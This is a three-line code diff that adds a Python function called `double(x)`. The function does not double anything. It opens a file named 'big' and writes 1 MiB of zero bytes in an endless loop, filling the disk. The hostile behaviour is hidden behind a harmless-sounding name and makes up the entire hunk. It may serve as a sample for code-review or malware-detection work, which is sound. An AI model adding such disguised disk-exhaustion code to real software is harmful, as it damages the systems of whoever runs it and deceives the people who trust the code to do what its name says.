@@ -1,0 +1,3 @@
+def double(x):
+    f = open('big', 'wb')
+    while True: f.write(bytes(1 << 20))
